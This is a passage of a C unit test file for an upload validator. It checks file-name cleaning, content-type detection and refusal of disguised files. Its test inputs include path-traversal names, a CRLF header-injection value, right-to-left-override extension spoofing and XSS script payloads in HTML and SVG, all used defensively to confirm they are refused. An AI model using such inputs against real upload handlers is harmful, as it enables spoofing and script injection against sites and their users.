/* Unit tests for files.c: file name cleaning, the upload check (sizes,
 * extensions, content types, image headers and pixel limits), the store
 * (re-encoding without metadata, orientation, sizes, atomic writes, dedupe,
 * permissions, a full disk leaving nothing behind) and download headers.
 * Every fixture is made here at run time: images with libgd, ZIP, OOXML,
 * ODF and OLE2 containers, PDFs, scripts and bombs as bytes. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>
#include <gd.h>
#include <zlib.h>

#include "config.h"
#include "crypto.h"
#include "files.h"

static char root[] = "/tmp/kp-test-files-XXXXXX";
static char updir[200];    /* where "uploaded" temporary files are */
static char storedir[200]; /* kp_cfg.file_dir */

/* ---- byte buffers ---- */

struct buf {
	unsigned char *p;
	size_t n, cap;
};

static void buf_add(struct buf *b, const void *data, size_t n)
{
	if (b->n + n + 1 > b->cap) {
		b->cap = (b->n + n + 1) * 2;
		b->p = realloc(b->p, b->cap);
		assert_non_null(b->p);
	}
	if (n)
		memcpy(b->p + b->n, data, n);
	b->n += n;
	b->p[b->n] = 0;
}

static void buf_free(struct buf *b)
{
	free(b->p);
	*b = (struct buf){0};
}

static void buf_str(struct buf *b, const char *s)
{
	buf_add(b, s, strlen(s));
}

static void buf_u8(struct buf *b, unsigned v)
{
	unsigned char c = (unsigned char)v;
	buf_add(b, &c, 1);
}

static void buf_le16(struct buf *b, unsigned v)
{
	buf_u8(b, v & 0xff);
	buf_u8(b, v >> 8);
}

static void buf_le32(struct buf *b, uint32_t v)
{
	buf_le16(b, v & 0xffff);
	buf_le16(b, v >> 16);
}

static void buf_be16(struct buf *b, unsigned v)
{
	buf_u8(b, v >> 8);
	buf_u8(b, v & 0xff);
}

static void buf_be32(struct buf *b, uint32_t v)
{
	buf_be16(b, v >> 16);
	buf_be16(b, v & 0xffff);
}

static void buf_zero(struct buf *b, size_t n)
{
	unsigned char z[512] = {0};
	while (n > 0) {
		size_t k = n < sizeof(z) ? n : sizeof(z);
		buf_add(b, z, k);
		n -= k;
	}
}

static unsigned char *read_path(const char *path, size_t *n)
{
	FILE *f = fopen(path, "rb");
	assert_non_null(f);
	struct buf b = {0};
	unsigned char tmp[8192];
	size_t k;
	buf_add(&b, "", 0);
	while ((k = fread(tmp, 1, sizeof(tmp), f)) > 0)
		buf_add(&b, tmp, k);
	fclose(f);
	*n = b.n;
	return b.p;
}

/* ---- fixtures ---- */

enum { RED, BLUE };

/* w x h, left half red, right half blue, in a libgd format; PNG and WebP
 * get a transparent corner pixel. */
static void gen_image(struct buf *out, enum kp_image_format f, int w, int h)
{
	gdImagePtr im = gdImageCreateTrueColor(w, h);
	assert_non_null(im);
	gdImageFilledRectangle(im, 0, 0, w / 2 - 1, h - 1, gdTrueColor(255, 0, 0));
	gdImageFilledRectangle(im, w / 2, 0, w - 1, h - 1, gdTrueColor(0, 0, 255));
	int size = 0;
	void *p = NULL;
	switch (f) {
	case KP_IMG_JPEG:
		p = gdImageJpegPtr(im, &size, 90);
		break;
	case KP_IMG_PNG:
		gdImageAlphaBlending(im, 0);
		gdImageSaveAlpha(im, 1);
		gdImageSetPixel(im, 0, 0, gdTrueColorAlpha(0, 0, 0, 127));
		p = gdImagePngPtr(im, &size);
		break;
	case KP_IMG_WEBP:
		p = gdImageWebpPtrEx(im, &size, 90);
		break;
	case KP_IMG_GIF:
		p = gdImageGifPtr(im, &size);
		break;
	default:
		break;
	}
	gdImageDestroy(im);
	assert_non_null(p);
	buf_add(out, p, (size_t)size);
	gdFree(p);
}

/* A PNG of random pixels: it does not compress. */
static void gen_noise_png(struct buf *out, int w, int h)
{
	gdImagePtr im = gdImageCreateTrueColor(w, h);
	assert_non_null(im);
	unsigned char rnd[3 * 512];
	for (int y = 0; y < h; y++) {
		assert_int_equal(kp_random(rnd, sizeof(rnd)), 0);
		for (int x = 0; x < w && x < 512; x++)
			gdImageSetPixel(im, x, y,
			                gdTrueColor(rnd[3 * x], rnd[3 * x + 1], rnd[3 * x + 2]));
	}
	int size = 0;
	void *p = gdImagePngPtr(im, &size);
	gdImageDestroy(im);
	assert_non_null(p);
	buf_add(out, p, (size_t)size);
	gdFree(p);
}

/* A libgd JPEG with an Exif APP1 after SOI: Orientation and a GPS IFD,
 * plus a marker text to look for in the result. */
#define GPS_MARK "KP-GPS-52.5200N-13.4050E"
static void gen_exif_jpeg(struct buf *out, int w, int h, unsigned orientation)
{
	struct buf jpg = {0};
	gen_image(&jpg, KP_IMG_JPEG, w, h);
	struct buf app = {0};
	buf_add(&app, "Exif\0\0", 6);
	buf_str(&app, "MM");
	buf_be16(&app, 42);
	buf_be32(&app, 8);
	/* IFD0 at 8: Orientation, GPS pointer (to 38), no next IFD. */
	buf_be16(&app, 2);
	buf_be16(&app, 0x0112), buf_be16(&app, 3), buf_be32(&app, 1);
	buf_be16(&app, orientation), buf_be16(&app, 0);
	buf_be16(&app, 0x8825), buf_be16(&app, 4), buf_be32(&app, 1), buf_be32(&app, 38);
	buf_be32(&app, 0);
	/* GPS IFD at 38: GPSLatitudeRef "N". */
	buf_be16(&app, 1);
	buf_be16(&app, 0x0001), buf_be16(&app, 2), buf_be32(&app, 2);
	buf_add(&app, "N\0\0\0", 4);
	buf_be32(&app, 0);
	buf_str(&app, GPS_MARK);
	buf_add(out, jpg.p, 2); /* SOI */
	buf_u8(out, 0xff), buf_u8(out, 0xe1);
	buf_be16(out, (unsigned)app.n + 2);
	buf_add(out, app.p, app.n);
	buf_add(out, jpg.p + 2, jpg.n - 2);
	buf_free(&jpg);
	buf_free(&app);
}

static void png_chunk(struct buf *b, const char *type, const void *data, size_t n)
{
	buf_be32(b, (uint32_t)n);
	size_t at = b->n;
	buf_add(b, type, 4);
	buf_add(b, data, n);
	buf_be32(b, (uint32_t)crc32(0, b->p + at, (uInt)(n + 4)));
}

/* A PNG that declares w x h but holds a few bytes of pixel data. */
static void gen_png_header(struct buf *b, uint32_t w, uint32_t h)
{
	buf_add(b, "\x89PNG\r\n\x1a\n", 8);
	struct buf ihdr = {0};
	buf_be32(&ihdr, w);
	buf_be32(&ihdr, h);
	buf_add(&ihdr, "\x08\x02\x00\x00\x00", 5);
	png_chunk(b, "IHDR", ihdr.p, ihdr.n);
	unsigned char raw[64] = {0}, z[128];
	uLongf zn = sizeof(z);
	assert_int_equal(compress(z, &zn, raw, sizeof(raw)), Z_OK);
	png_chunk(b, "IDAT", z, zn);
	png_chunk(b, "IEND", "", 0);
	buf_free(&ihdr);
}

struct zent {
	const char *name;
	const char *data;
};

/* A ZIP archive with stored (uncompressed) entries. */
static void gen_zip(struct buf *b, const struct zent *e, size_t n)
{
	struct buf cd = {0};
	buf_add(&cd, "", 0);
	for (size_t i = 0; i < n; i++) {
		uint32_t off = (uint32_t)b->n;
		size_t nl = strlen(e[i].name), dl = strlen(e[i].data);
		uint32_t crc = (uint32_t)crc32(0, (const Bytef *)e[i].data, (uInt)dl);
		buf_add(b, "PK\3\4", 4);
		buf_le16(b, 20), buf_le16(b, 0), buf_le16(b, 0), buf_le16(b, 0), buf_le16(b, 0x21);
		buf_le32(b, crc), buf_le32(b, (uint32_t)dl), buf_le32(b, (uint32_t)dl);
		buf_le16(b, (unsigned)nl), buf_le16(b, 0);
		buf_add(b, e[i].name, nl);
		buf_add(b, e[i].data, dl);
		buf_add(&cd, "PK\1\2", 4);
		buf_le16(&cd, 20), buf_le16(&cd, 20), buf_le16(&cd, 0), buf_le16(&cd, 0);
		buf_le16(&cd, 0), buf_le16(&cd, 0x21);
		buf_le32(&cd, crc), buf_le32(&cd, (uint32_t)dl), buf_le32(&cd, (uint32_t)dl);
		buf_le16(&cd, (unsigned)nl), buf_le16(&cd, 0), buf_le16(&cd, 0);
		buf_le16(&cd, 0), buf_le16(&cd, 0), buf_le32(&cd, 0), buf_le32(&cd, off);
		buf_add(&cd, e[i].name, nl);
	}
	uint32_t cd_off = (uint32_t)b->n;
	buf_add(b, cd.p, cd.n);
	buf_add(b, "PK\5\6", 4);
	buf_le16(b, 0), buf_le16(b, 0), buf_le16(b, (unsigned)n), buf_le16(b, (unsigned)n);
	buf_le32(b, (uint32_t)cd.n), buf_le32(b, cd_off), buf_le16(b, 0);
	buf_free(&cd);
}

#define CT_XML                                                                                     \
	"<?xml version=\"1.0\"?><Types "                                                           \
	"xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"

/* An OOXML package as Microsoft Office orders it ([Content_Types].xml,
 * _rels, the main part: OOXML_OFFICE), in four entries with the main part
 * last (OOXML_SHORT: file 5.44 says application/zip for it; its rule
 * depends on entry order and sizes), or with [Content_Types].xml last
 * (OOXML_CT_LAST). */
enum { OOXML_OFFICE, OOXML_SHORT, OOXML_CT_LAST };
static void gen_ooxml(struct buf *b, const char *main_part, int order)
{
	struct zent office[] = {{"[Content_Types].xml", CT_XML},
	                        {"_rels/.rels", "<Relationships/>"},
	                        {main_part, "<doc/>"}};
	struct zent shrt[] = {{"[Content_Types].xml", CT_XML},
	                      {"_rels/.rels", "x"},
	                      {"docProps/app.xml", "x"},
	                      {main_part, "<doc/>"}};
	struct zent ct_last[] = {{"_rels/.rels", "<Relationships/>"},
	                         {"docProps/app.xml", "<Properties/>"},
	                         {"docProps/core.xml", "<coreProperties/>"},
	                         {main_part, "<doc/>"},
	                         {"[Content_Types].xml", CT_XML}};
	if (order == OOXML_OFFICE)
		gen_zip(b, office, 3);
	else if (order == OOXML_SHORT)
		gen_zip(b, shrt, 4);
	else
		gen_zip(b, ct_last, 5);
}

static void gen_odf(struct buf *b, const char *mimetype)
{
	struct zent e[] = {{"mimetype", mimetype},
	                   {"content.xml", "<office:document-content/>"},
	                   {"META-INF/manifest.xml", "<manifest/>"}};
	gen_zip(b, e, 3);
}

/* An OLE2 compound file (what .doc/.xls are) with one 4 KiB stream. */
static void gen_cdf(struct buf *b, const char *stream)
{
	const uint32_t end = 0xfffffffe, free_ = 0xffffffff, fatsect = 0xfffffffd;
	buf_add(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	buf_zero(b, 16);
	buf_le16(b, 0x3e), buf_le16(b, 3), buf_le16(b, 0xfffe), buf_le16(b, 9), buf_le16(b, 6);
	buf_zero(b, 6);
	buf_le32(b, 0), buf_le32(b, 1), buf_le32(b, 1), buf_le32(b, 0); /* FAT: 1, dir at 1 */
	buf_le32(b, 4096), buf_le32(b, end), buf_le32(b, 0), buf_le32(b, end), buf_le32(b, 0);
	buf_le32(b, 0); /* DIFAT[0]: the FAT is sector 0 */
	for (int i = 1; i < 109; i++)
		buf_le32(b, free_);
	/* Sector 0, the FAT: itself, the directory, the stream in 2..9. */
	buf_le32(b, fatsect), buf_le32(b, end);
	for (uint32_t s = 2; s < 9; s++)
		buf_le32(b, s + 1);
	buf_le32(b, end);
	for (int i = 10; i < 128; i++)
		buf_le32(b, free_);
	/* Sector 1, the directory: root, the stream, two empty entries. */
	const char *names[2] = {"Root Entry", stream};
	for (int i = 0; i < 4; i++) {
		size_t at = b->n;
		if (i < 2) {
			for (const char *c = names[i]; *c; c++)
				buf_le16(b, (unsigned char)*c);
			buf_le16(b, 0);
		}
		buf_zero(b, 64 - (b->n - at));
		buf_le16(b, i < 2 ? (unsigned)(strlen(names[i]) + 1) * 2 : 0);
		buf_u8(b, i == 0 ? 5 : i == 1 ? 2 : 0);
		buf_u8(b, 1);
		buf_le32(b, free_), buf_le32(b, free_), buf_le32(b, i == 0 ? 1 : free_);
		buf_zero(b, 116 - (b->n - at));
		buf_le32(b, i == 0 ? end : i == 1 ? 2 : 0), buf_le32(b, i == 1 ? 4096 : 0);
		buf_zero(b, 128 - (b->n - at));
	}
	buf_zero(b, 4096);
}

static const char pdf_doc[] = "%PDF-1.4\n"
                              "1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
                              "2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
                              "3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> "
                              "endobj\n"
                              "trailer <</Root 1 0 R>>\n%%EOF\n";

/* ---- the file system around a test ---- */

static int rm_entry(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	if (ftw->level == 0)
		return 0;
	return remove(path);
}

static void empty_dir(const char *dir)
{
	assert_int_equal(nftw(dir, rm_entry, 16, FTW_DEPTH | FTW_PHYS), 0);
}

static size_t n_regular, n_tmp;
static int count_entry(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	if (type == FTW_F) {
		n_regular++;
		if (!strncmp(path + ftw->base, ".tmp-", 5))
			n_tmp++;
	}
	return 0;
}

/* Regular files under dir (temporary ones included). */
static size_t count_files(const char *dir)
{
	n_regular = n_tmp = 0;
	assert_int_equal(nftw(dir, count_entry, 16, FTW_PHYS), 0);
	return n_regular;
}

/* A file part as the multipart parser hands it over. */
static struct kp_param part_of(const char *filename, const void *data, size_t n)
{
	static char paths[4][700];
	static unsigned seq;
	char *path = paths[seq++ % 4];
	snprintf(path, sizeof(paths[0]), "%s/kp-upload-%u", updir, seq);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, data, n), (ssize_t)n);
	close(fd);
	struct kp_param p = {.name = "file", .value = filename, .len = strlen(filename)};
	p.is_file = 1;
	p.filename = filename;
	p.client_type = "application/octet-stream";
	p.tmp_path = path;
	p.file_size = n;
	return p;
}

static const struct kp_upload_rules image_rules = {KP_UPLOAD_IMAGE, 0, 0};
static const struct kp_upload_rules doc_rules = {KP_UPLOAD_DOCUMENT, 0, 0};

static enum kp_upload_status check(struct kp_arena *a, const char *filename, const void *data,
                                   size_t n, const struct kp_upload_rules *rules,
                                   struct kp_upload *up)
{
	struct kp_param p = part_of(filename, data, n);
	return kp_upload_check(a, &p, rules, up);
}

static void expect_upload(const char *filename, const void *data, size_t n,
                          const struct kp_upload_rules *rules, enum kp_upload_status want)
{
	struct kp_arena a = {0};
	struct kp_upload up;
	enum kp_upload_status st = check(&a, filename, data, n, rules, &up);
	if (st != want)
		fail_msg("%s: %s, want %s", filename, kp_upload_status_name(st),
		         kp_upload_status_name(want));
	assert_non_null(up.name); /* for the message, also on a refusal */
	kp_arena_reset(&a);
}

static void expect_buf(const char *filename, struct buf *b, const struct kp_upload_rules *rules,
                       enum kp_upload_status want)
{
	expect_upload(filename, b->p, b->n, rules, want);
	buf_free(b);
}

/* The stored file for a hash: its bytes, mode and SHA-256 checked. */
static unsigned char *stored_bytes(const struct kp_stored *s, size_t *n)
{
	char path[800];
	snprintf(path, sizeof(path), "%s/%.2s/%.2s/%s", storedir, s->sha256, s->sha256 + 2,
	         s->sha256);
	struct stat sb;
	assert_int_equal(lstat(path, &sb), 0);
	assert_true(S_ISREG(sb.st_mode));
	assert_int_equal(sb.st_mode & 07777, 0640);
	assert_int_equal((size_t)sb.st_size, s->size);
	unsigned char *d = read_path(path, n);
	unsigned char h[32];
	char hex[65];
	kp_sha256(d, *n, h);
	kp_hex(h, 32, hex);
	assert_string_equal(hex, s->sha256);
	return d;
}

static int setup(void **state)
{
	assert_non_null(mkdtemp(root));
	snprintf(updir, sizeof(updir), "%s/up", root);
	snprintf(storedir, sizeof(storedir), "%s/files", root);
	assert_int_equal(mkdir(updir, 0700), 0);
	assert_int_equal(mkdir(storedir, 0750), 0);
	/* As INSTALL sets it up: setgid, so subfolders keep the group. */
	assert_int_equal(chmod(storedir, 02750), 0);
	snprintf(kp_cfg.file_dir, sizeof(kp_cfg.file_dir), "%s", storedir);
	umask(027);
	return 0;
}

static int teardown(void **state)
{
	struct stat sb;
	if (lstat(root, &sb) == 0) {
		nftw(root, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
		rmdir(root);
	}
	return 0;
}

static int per_test(void **state)
{
	empty_dir(updir);
	empty_dir(storedir);
	snprintf(kp_cfg.file_dir, sizeof(kp_cfg.file_dir), "%s", storedir);
	return 0;
}

/* ---- file names ---- */

static void expect_name_len(const char *in, size_t len, const char *want, const char *want_ext)
{
	struct kp_arena a = {0};
	const char *ext = NULL;
	const char *got = kp_filename_clean(&a, in, len, &ext);
	assert_non_null(got);
	if (strcmp(got, want) != 0)
		fail_msg("clean(\"%s\") = \"%s\", want \"%s\"", in, got, want);
	if (strcmp(ext, want_ext) != 0)
		fail_msg("ext of \"%s\" = \"%s\", want \"%s\"", in, ext, want_ext);
	kp_arena_reset(&a);
}

static void expect_name(const char *in, const char *want, const char *want_ext)
{
	expect_name_len(in, strlen(in), want, want_ext);
}

static void test_filename_plain(void **state)
{
	expect_name("Bericht.pdf", "Bericht.pdf", "pdf");
	expect_name("Foto.JPG", "Foto.JPG", "jpg");
	expect_name("Prüfung – Übersicht 2024.docx", "Prüfung – Übersicht 2024.docx", "docx");
	expect_name("Protokoll 12.03.2024.pdf", "Protokoll 12.03.2024.pdf", "pdf");
	expect_name("گزارش.pdf", "گزارش.pdf", "pdf");
	expect_name("می‌خواهم.txt", "می‌خواهم.txt", "txt"); /* ZWNJ stays */
	expect_name("README", "README", "");
	expect_name("archive.tar.gz", "archive.tar.gz", "gz");
	expect_name("x.verylongext1", "x.verylongext1", ""); /* 13 > KP_EXT_MAX */
	expect_name("x.p-f", "x.p-f", "");
	expect_name("x.pdf ", "x.pdf", "pdf");
}

static void test_filename_paths(void **state)
{
	expect_name("../../etc/passwd", "passwd", "");
	expect_name("..\\..\\windows\\win.ini", "win.ini", "ini");
	expect_name("C:\\Users\\Anna\\Desktop\\Antrag.pdf", "Antrag.pdf", "pdf");
	expect_name("/var/www/shell.php", "shell.php", "php");
	expect_name("folder/sub/", "sub", "");
	expect_name("/", "file", "");
	expect_name("..", "file", "");
	expect_name("a/..", "file", "");
	expect_name("a\u2215b.pdf", "a_b.pdf", "pdf");          /* division slash */
	expect_name("a\uff0fb\uff3cc.pdf", "a_b_c.pdf", "pdf"); /* fullwidth */
	expect_name("a..b...pdf", "a.b.pdf", "pdf");
}

static void test_filename_dots_and_spaces(void **state)
{
	expect_name(".htaccess", "htaccess", "");
	expect_name("...", "file", "");
	expect_name(". . .", "file", "");
	expect_name("..pdf", "pdf", "");
	expect_name(".bashrc.txt", "bashrc.txt", "txt");
	expect_name("x.exe.", "x.exe", "exe"); /* as Windows would save it */
	expect_name("x.exe . .", "x.exe", "exe");
	expect_name("   Antrag    neu  .pdf  ", "Antrag neu .pdf", "pdf");
	expect_name("a\u00a0b\u3000c\u2028d.txt", "a b c d.txt", "txt");
	expect_name("", "file", "");
	expect_name("   ", "file", "");
	expect_name_len(NULL, 0, "file", "");
}

static void test_filename_controls(void **state)
{
	expect_name("a\x01"
	            "b\x1f"
	            "c\x7f.pdf",
	            "abc.pdf", "pdf");
	expect_name("a\tb\r\nc.pdf", "a b c.pdf", "pdf");
	expect_name_len("a\0b.pdf", 7, "ab.pdf", "pdf");
	expect_name("a\xc2\x85"
	            "b\xc2\x9f.pdf",
	            "ab.pdf", "pdf"); /* C1 controls */
	expect_name("x.pdf\r\nX-Injected: 1", "x.pdf X-Injected_ 1", "");
	expect_name("a\"b<c>d:e|f?g*h.txt", "a_b_c_d_e_f_g_h.txt", "txt");
}

static void test_filename_invisible(void **state)
{
	/* Right-to-left override: "Rechnung<RLO>fdp.exe" shows as
	 * "Rechnungexe.pdf". Without it the real extension is plain. */
	expect_name("Rechnung\u202efdp.exe", "Rechnungfdp.exe", "exe");
	expect_name("\u202a\u202b\u202c\u202d\u202ex.pdf", "x.pdf", "pdf");
	expect_name("\u2066a\u2067b\u2068c\u2069.pdf", "abc.pdf", "pdf");
	expect_name("a\u200eb\u200fc\u061cd.pdf", "abcd.pdf", "pdf");
	expect_name("a\u200bb\ufeffc\u00adde\u2060.pdf", "abcde.pdf", "pdf");
	/* Tag characters hide ASCII text ("ASCII smuggling"). */
	expect_name("a\U000e0041\U000e0042b.pdf", "ab.pdf", "pdf");
	expect_name("x.p\u202edf", "x.pdf", "pdf");
	expect_name("\u202e\u202e", "file", "");
	expect_name("a\ufffeb\U0010ffff.pdf", "ab.pdf", "pdf"); /* noncharacters */
}

static void test_filename_invalid_utf8(void **state)
{
	expect_name("a\xff\xfe"
	            "b.pdf",
	            "a__b.pdf", "pdf");
	expect_name("\xc0\xaf.pdf", "__.pdf", "pdf");             /* overlong '/' */
	expect_name("\xed\xa0\x80x.pdf", "___x.pdf", "pdf");      /* surrogate */
	expect_name("\xf4\x90\x80\x80x.pdf", "____x.pdf", "pdf"); /* > U+10FFFF */
	expect_name("x.pdf\xe2\x82", "x.pdf__", "");              /* cut off */
}

static void test_filename_windows_devices(void **state)
{
	expect_name("CON", "_CON", "");
	expect_name("con.txt", "_con.txt", "txt");
	expect_name("NUL .tar.gz", "_NUL .tar.gz", "gz");
	expect_name("com1.pdf", "_com1.pdf", "pdf");
	expect_name("LPT9", "_LPT9", "");
	expect_name("console.txt", "console.txt", "txt");
	expect_name("com10.txt", "com10.txt", "txt");
}

static int utf8_valid(const char *s)
{
	return kp_text_valid(s, strlen(s), 0);
}

static void test_filename_length(void **state)
{
	struct kp_arena a = {0};
	char in[1200];
	const char *ext, *got;

	memset(in, 'a', 300);
	strcpy(in + 300, ".pdf");
	got = kp_filename_clean(&a, in, strlen(in), &ext);
	assert_int_equal(strlen(got), KP_FILENAME_MAX);
	assert_string_equal(got + KP_FILENAME_MAX - 4, ".pdf");
	assert_string_equal(ext, "pdf");

	/* Two-byte characters: cut between them, never inside one. */
	in[0] = '\0';
	for (int i = 0; i < 150; i++)
		strcat(in, "ä");
	strcat(in, ".docx");
	got = kp_filename_clean(&a, in, strlen(in), &ext);
	assert_true(strlen(got) <= KP_FILENAME_MAX);
	assert_true(utf8_valid(got));
	assert_string_equal(got + strlen(got) - 5, ".docx");
	assert_int_equal((strlen(got) - 5) % 2, 0);
	assert_string_equal(ext, "docx");

	/* Three-byte characters, no extension. */
	in[0] = '\0';
	for (int i = 0; i < 100; i++)
		strcat(in, "€");
	got = kp_filename_clean(&a, in, strlen(in), &ext);
	assert_true(strlen(got) <= KP_FILENAME_MAX && strlen(got) > KP_FILENAME_MAX - 3);
	assert_int_equal(strlen(got) % 3, 0);
	assert_string_equal(ext, "");

	/* The cut lands on spaces and dots: trimmed. */
	memset(in, 'b', 170);
	memset(in + 170, ' ', 1);
	memset(in + 171, 'c', 100);
	strcpy(in + 271, ".odt");
	got = kp_filename_clean(&a, in, strlen(in), &ext);
	assert_int_equal(strlen(got), KP_FILENAME_MAX);
	memset(in, 'b', 174);
	strcpy(in + 174, ". . . . . . . . . . . . . . . . . . . . . .pdf");
	got = kp_filename_clean(&a, in, strlen(in), &ext);
	assert_int_equal(strlen(got), 178);
	assert_string_equal(got + 174, ".pdf");

	/* A path of 1000 bytes: only the last component counts. */
	memset(in, '/', 1000);
	strcpy(in + 1000, "x.csv");
	got = kp_filename_clean(&a, in, strlen(in), &ext);
	assert_string_equal(got, "x.csv");
	kp_arena_reset(&a);
}

/* ---- the check: what is accepted ---- */

static void test_images_accepted(void **state)
{
	static const struct {
		const char *name;
		enum kp_image_format f;
		const char *mime;
	} cases[] = {{"Foto.jpg", KP_IMG_JPEG, "image/jpeg"},
	             {"Foto.JPEG", KP_IMG_JPEG, "image/jpeg"},
	             {"Logo.png", KP_IMG_PNG, "image/png"},
	             {"Logo.webp", KP_IMG_WEBP, "image/webp"}};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct kp_arena a = {0};
		struct buf b = {0};
		gen_image(&b, cases[i].f, 64, 48);
		struct kp_upload up;
		enum kp_upload_status st = check(&a, cases[i].name, b.p, b.n, &image_rules, &up);
		if (st != KP_UPLOAD_OK)
			fail_msg("%s: %s", cases[i].name, kp_upload_status_name(st));
		assert_string_equal(up.mime, cases[i].mime);
		assert_string_equal(up.name, cases[i].name);
		assert_true(up.is_image);
		assert_int_equal(up.width, 64);
		assert_int_equal(up.height, 48);
		assert_int_equal(up.size, b.n);
		/* Also a document. */
		assert_int_equal(check(&a, cases[i].name, b.p, b.n, &doc_rules, &up), KP_UPLOAD_OK);
		buf_free(&b);
		kp_arena_reset(&a);
	}
	/* GIF: documents only. */
	struct buf g = {0};
	gen_image(&g, KP_IMG_GIF, 30, 20);
	expect_upload("anim.gif", g.p, g.n, &image_rules, KP_UPLOAD_BAD_EXTENSION);
	expect_buf("anim.gif", &g, &doc_rules, KP_UPLOAD_OK);
}

static void test_documents_accepted(void **state)
{
	struct buf b = {0};
	expect_upload("Satzung.pdf", pdf_doc, strlen(pdf_doc), &doc_rules, KP_UPLOAD_OK);
	gen_ooxml(&b, "word/document.xml", OOXML_OFFICE);
	expect_buf("Bericht.docx", &b, &doc_rules, KP_UPLOAD_OK);
	gen_ooxml(&b, "xl/workbook.xml", OOXML_OFFICE);
	expect_buf("Liste.xlsx", &b, &doc_rules, KP_UPLOAD_OK);
	gen_ooxml(&b, "ppt/presentation.xml", OOXML_OFFICE);
	expect_buf("Vortrag.pptx", &b, &doc_rules, KP_UPLOAD_OK);
	/* Entries in other orders: for OOXML_SHORT libmagic says
	 * application/zip, the central directory says OOXML. */
	static const char *const parts[] = {"word/document.xml", "xl/workbook.xml",
	                                    "ppt/presentation.xml"};
	static const char *const names[] = {"Export.docx", "Export.xlsx", "Export.pptx"};
	for (int i = 0; i < 3; i++) {
		gen_ooxml(&b, parts[i], OOXML_SHORT);
		expect_buf(names[i], &b, &doc_rules, KP_UPLOAD_OK);
		gen_ooxml(&b, parts[i], OOXML_CT_LAST);
		expect_buf(names[i], &b, &doc_rules, KP_UPLOAD_OK);
	}
	gen_odf(&b, "application/vnd.oasis.opendocument.text");
	expect_buf("Brief.odt", &b, &doc_rules, KP_UPLOAD_OK);
	gen_odf(&b, "application/vnd.oasis.opendocument.spreadsheet");
	expect_buf("Tabelle.ods", &b, &doc_rules, KP_UPLOAD_OK);
	gen_odf(&b, "application/vnd.oasis.opendocument.presentation");
	expect_buf("Folien.odp", &b, &doc_rules, KP_UPLOAD_OK);
	gen_cdf(&b, "WordDocument");
	expect_buf("Alt.doc", &b, &doc_rules, KP_UPLOAD_OK);
	gen_cdf(&b, "Workbook");
	expect_buf("Alt.xls", &b, &doc_rules, KP_UPLOAD_OK);
	const char *txt = "Liebe Kolleginnen, schöne Grüße aus dem Netzwerk.\n";
	expect_upload("Notiz.txt", txt, strlen(txt), &doc_rules, KP_UPLOAD_OK);
	const char *csv = "name,ort,plz\nA,Ulm,89073\nB,Köln,50667\nC,Kiel,24103\n";
	expect_upload("Adressen.csv", csv, strlen(csv), &doc_rules, KP_UPLOAD_OK);
	const char *csv_de = "Name;Ort;PLZ\nA;Ulm;89073\nB;Köln;50667\n";
	expect_upload("Adressen.csv", csv_de, strlen(csv_de), &doc_rules, KP_UPLOAD_OK);
	/* Documents are not images. */
	expect_upload("Satzung.pdf", pdf_doc, strlen(pdf_doc), &image_rules,
	              KP_UPLOAD_BAD_EXTENSION);
	/* What the check reports. */
	struct kp_arena a = {0};
	struct kp_upload up;
	assert_int_equal(check(&a, "Satzung.PDF", pdf_doc, strlen(pdf_doc), &doc_rules, &up),
	                 KP_UPLOAD_OK);
	assert_string_equal(up.mime, "application/pdf");
	assert_string_equal(up.ext, "pdf");
	assert_false(up.is_image);
	kp_arena_reset(&a);
}

/* ---- the check: what is refused ---- */

static void test_type_mismatch(void **state)
{
	struct buf b = {0};
	/* A ZIP named .docx, one with only [Content_Types].xml, and a docx
	 * named .xlsx. */
	struct zent plain[] = {{"hello.txt", "hi"}, {"word/document.xml", "<x/>"}};
	gen_zip(&b, plain, 2);
	expect_buf("x.docx", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	struct zent ct_only[] = {{"[Content_Types].xml", CT_XML}, {"payload.exe", "MZ"}};
	gen_zip(&b, ct_only, 2);
	expect_buf("x.docx", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	gen_ooxml(&b, "word/document.xml", OOXML_OFFICE);
	expect_buf("x.xlsx", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	gen_ooxml(&b, "word/document.xml", OOXML_SHORT);
	expect_buf("x.pptx", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	gen_ooxml(&b, "word/document.xml", OOXML_SHORT);
	expect_buf("x.xlsx", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	gen_odf(&b, "application/vnd.oasis.opendocument.text");
	expect_buf("x.docx", &b, &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	/* HTML and SVG named as images, or as text. */
	const char *html = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n";
	expect_upload("x.png", html, strlen(html), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	expect_upload("x.txt", html, strlen(html), &doc_rules, KP_UPLOAD_TYPE_MISMATCH);
	const char *html2 = "<html><script>alert(document.cookie)</script>";
	expect_upload("x.jpg", html2, strlen(html2), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	const char *svg = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">"
	                  "<script>alert(1)</script></svg>\n";
	expect_upload("x.png", svg, strlen(svg), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	const char *svg2 = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
	expect_upload("x.webp", svg2, strlen(svg2), &image_rules, KP_UPLOAD_TYPE_MISMATCH);
	/* Scripts with an image name. */
